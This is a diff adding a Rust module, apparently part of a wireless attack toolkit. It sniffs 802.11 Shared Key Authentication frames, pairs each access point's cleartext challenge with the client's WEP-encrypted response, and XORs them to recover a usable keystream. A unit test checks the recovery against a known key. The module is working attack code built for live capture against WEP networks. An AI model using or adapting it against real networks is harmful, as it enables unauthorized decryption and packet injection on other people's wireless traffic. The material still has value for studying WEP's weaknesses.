@@ -0,0 +1,295 @@
+//Recovery of long keystreams from the cleartext challenge / encrypted response exchange of Shared Key Authentication
+
+use std::{
+    collections::HashMap,
+    sync::atomic::{AtomicBool, Ordering},
+    time::{Duration, Instant},
+};
+
+use anyhow::Context;
+use ieee80211::MacAddress;
+
+use crate::{
+    crc32::crc32,
+    ieee80211::IEEE80211PacketSniffer,
+    wep::{WepFrame, WepKeystream},
+};
+
+pub const AUTH_ALGORITHM_OPEN_SYSTEM: u16 = 0;
+pub const AUTH_ALGORITHM_SHARED_KEY: u16 = 1;
+
+pub const AUTH_STATUS_SUCCESS: u16 = 0;
+
+const ELEMENT_ID_CHALLENGE_TEXT: u8 = 16;
+
+pub const FRAME_CONTROL_AUTHENTICATION: u8 = 0xb0;
+pub const FRAME_FLAG_PROTECTED: u8 = 0x40;
+
+pub const MANAGEMENT_HEADER_SIZE: usize = 24;
+
+//The fixed fields and (optional) challenge text of an Authentication frame
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AuthBody {
+    pub algorithm: u16,
+    pub seq_num: u16,
+    pub status: u16,
+    pub challenge: Option<Vec<u8>>,
+}
+
+impl AuthBody {
+    pub fn parse(body: &[u8]) -> Option<AuthBody> {
+        if body.len() < 6 {
+            return None;
+        }
+
+        //Look for the challenge text in the tagged parameters
+        let mut challenge = None;
+        let mut elements = &body[6..];
+        while elements.len() >= 2 {
+            let (id, len) = (elements[0], elements[1] as usize);
+            let data = elements.get(2..2 + len)?;
+            if id == ELEMENT_ID_CHALLENGE_TEXT {
+                challenge = Some(data.to_vec());
+            }
+            elements = &elements[2 + len..];
+        }
+
+        Some(AuthBody {
+            algorithm: u16::from_le_bytes([body[0], body[1]]),
+            seq_num: u16::from_le_bytes([body[2], body[3]]),
+            status: u16::from_le_bytes([body[4], body[5]]),
+            challenge,
+        })
+    }
+
+    pub fn to_bytes(&self) -> Vec<u8> {
+        let mut body = Vec::with_capacity(6 + self.challenge.as_ref().map_or(0, |c| 2 + c.len()));
+        body.extend_from_slice(&self.algorithm.to_le_bytes());
+        body.extend_from_slice(&self.seq_num.to_le_bytes());
+        body.extend_from_slice(&self.status.to_le_bytes());
+
+        if let Some(challenge) = &self.challenge {
+            body.extend_from_slice(&[ELEMENT_ID_CHALLENGE_TEXT, challenge.len() as u8]);
+            body.extend_from_slice(challenge);
+        }
+
+        body
+    }
+}
+
+//A (possibly protected) Authentication frame, as seen on the air
+#[derive(Debug, Clone)]
+pub struct AuthFrame {
+    pub receiver: MacAddress,
+    pub transmitter: MacAddress,
+    pub bssid: MacAddress,
+    pub body: AuthFrameBody,
+}
+
+#[derive(Debug, Clone)]
+pub enum AuthFrameBody {
+    Plain(AuthBody),
+    Protected(WepFrame),
+}
+
+impl AuthFrame {
+    pub fn parse(frame: &[u8], has_fcs: bool) -> Option<AuthFrame> {
+        let fcs_len = if has_fcs { 4 } else { 0 };
+        if frame.len() < MANAGEMENT_HEADER_SIZE + fcs_len
+            || frame[0] != FRAME_CONTROL_AUTHENTICATION
+        {
+            return None;
+        }
+
+        let body = &frame[MANAGEMENT_HEADER_SIZE..frame.len() - fcs_len];
+        let body = if frame[1] & FRAME_FLAG_PROTECTED != 0 {
+            //Protected frames carry the WEP IV header, followed by the encrypted body and ICV
+            if body.len() < 4 + WepFrame::ICV_SIZE {
+                return None;
+            }
+
+            AuthFrameBody::Protected(WepFrame {
+                iv: [body[0], body[1], body[2]],
+                key_idx: body[3] >> 6,
+                body: body[4..].to_vec(),
+            })
+        } else {
+            AuthFrameBody::Plain(AuthBody::parse(body)?)
+        };
+
+        Some(AuthFrame {
+            receiver: MacAddress::new(frame[4..10].try_into().ok()?),
+            transmitter: MacAddress::new(frame[10..16].try_into().ok()?),
+            bssid: MacAddress::new(frame[16..22].try_into().ok()?),
+            body,
+        })
+    }
+}
+
+//Matches the challenges sent by the AP (sequence 2) with the encrypted responses of the clients (sequence 3)
+pub struct SharedKeyAuthCapture {
+    ap_mac: MacAddress,
+    challenges: HashMap<MacAddress, Vec<u8>>,
+}
+
+impl SharedKeyAuthCapture {
+    pub fn new(ap_mac: MacAddress) -> SharedKeyAuthCapture {
+        SharedKeyAuthCapture {
+            ap_mac,
+            challenges: HashMap::new(),
+        }
+    }
+
+    pub fn accept_frame(&mut self, frame: &[u8], has_fcs: bool) -> Option<WepKeystream> {
+        let frame = AuthFrame::parse(frame, has_fcs)?;
+        if frame.bssid != self.ap_mac {
+            return None;
+        }
+
+        match frame.body {
+            AuthFrameBody::Plain(body) => {
+                //Remember the challenge the AP sent to the client
+                if frame.transmitter == self.ap_mac
+                    && body.algorithm == AUTH_ALGORITHM_SHARED_KEY
+                    && body.seq_num == 2
+                    && body.status == AUTH_STATUS_SUCCESS
+                {
+                    if let Some(challenge) = body.challenge {
+                        self.challenges.insert(frame.receiver, challenge);
+                    }
+                }
+                None
+            }
+            AuthFrameBody::Protected(response) => {
+                //The client's response contains the challenge we saw, encrypted with a fresh IV
+                if frame.receiver != self.ap_mac {
+                    return None;
+                }
+                let challenge = self.challenges.remove(&frame.transmitter)?;
+                Self::recover_keystream(&challenge, &response)
+            }
+        }
+    }
+
+    pub fn recover_keystream(challenge: &[u8], response: &WepFrame) -> Option<WepKeystream> {
+        let mut plaintext = AuthBody {
+            algorithm: AUTH_ALGORITHM_SHARED_KEY,
+            seq_num: 3,
+            status: AUTH_STATUS_SUCCESS,
+            challenge: Some(challenge.to_vec()),
+        }
+        .to_bytes();
+        if response.body.len() != plaintext.len() + WepFrame::ICV_SIZE {
+            return None;
+        }
+
+        let icv = crc32(&plaintext);
+        plaintext.extend_from_slice(&icv.to_le_bytes());
+
+        Some(WepKeystream {
+            iv: response.iv,
+            keystream: response
+                .body
+                .iter()
+                .zip(plaintext)
+                .map(|(c, p)| c ^ p)
+                .collect(),
+        })
+    }
+
+    pub fn capture(
+        &mut self,
+        sniffer: &mut IEEE80211PacketSniffer,
+        timeout: Duration,
+        should_exit: &AtomicBool,
+    ) -> anyhow::Result<Option<WepKeystream>> {
+        sniffer
+            .set_timeout(Some(Duration::from_millis(250)))
+            .context("failed to set sniffer timeout")?;
+
+        let start_time = Instant::now();
+        while start_time.elapsed() < timeout {
+            if should_exit.load(Ordering::SeqCst) {
+                break;
+            }
+
+            let Some(packet) = sniffer
+                .sniff_packet()
+                .context("failed to sniff authentication frame")?
+            else {
+                continue;
+            };
+
+            if let Some(keystream) = self.accept_frame(packet.ieee80211_frame().bytes(), true) {
+                return Ok(Some(keystream));
+            }
+        }
+
+        Ok(None)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wep::WepKey;
+
+    fn auth_frame(receiver: &MacAddress, transmitter: &MacAddress, flags: u8) -> Vec<u8> {
+        let mut frame = vec![FRAME_CONTROL_AUTHENTICATION, flags, 0, 0];
+        frame.extend_from_slice(receiver.as_bytes());
+        frame.extend_from_slice(transmitter.as_bytes());
+        frame.extend_from_slice(MacAddress::new([0x02, 0, 0, 0, 0, 1]).as_bytes());
+        frame.extend_from_slice(&[0, 0]);
+        frame
+    }
+
+    #[test]
+    fn test_ska_keystream_recovery() {
+        let key: WepKey = "0102030405".parse().unwrap();
+        let ap = MacAddress::new([0x02, 0, 0, 0, 0, 1]);
+        let client = MacAddress::new([0x02, 0, 0, 0, 0, 2]);
+        let challenge = (0..128).map(|i| i as u8).collect::<Vec<_>>();
+
+        //Sequence 2: the cleartext challenge sent by the AP
+        let mut challenge_frame = auth_frame(&client, &ap, 0);
+        challenge_frame.extend_from_slice(
+            &AuthBody {
+                algorithm: AUTH_ALGORITHM_SHARED_KEY,
+                seq_num: 2,
+                status: AUTH_STATUS_SUCCESS,
+                challenge: Some(challenge.clone()),
+            }
+            .to_bytes(),
+        );
+        challenge_frame.extend_from_slice(&[0; 4]);
+
+        //Sequence 3: the encrypted response of the client
+        let response = WepFrame::encrypt(
+            &key,
+            &[7, 8, 9],
+            0,
+            &AuthBody {
+                algorithm: AUTH_ALGORITHM_SHARED_KEY,
+                seq_num: 3,
+                status: AUTH_STATUS_SUCCESS,
+                challenge: Some(challenge.clone()),
+            }
+            .to_bytes(),
+        );
+        let mut response_frame = auth_frame(&ap, &client, FRAME_FLAG_PROTECTED);
+        response_frame.extend_from_slice(&response.iv_header());
+        response_frame.extend_from_slice(&response.body);
+        response_frame.extend_from_slice(&[0; 4]);
+
+        let mut capture = SharedKeyAuthCapture::new(ap);
+        assert!(capture.accept_frame(&response_frame, true).is_none());
+        assert!(capture.accept_frame(&challenge_frame, true).is_none());
+
+        let keystream = capture.accept_frame(&response_frame, true).unwrap();
+        assert_eq!(
+            keystream,
+            WepKeystream::from_key(&key, &[7, 8, 9], response.body.len())
+        );
+        assert_eq!(keystream.max_plaintext_len(), 6 + 2 + challenge.len());
+    }
+}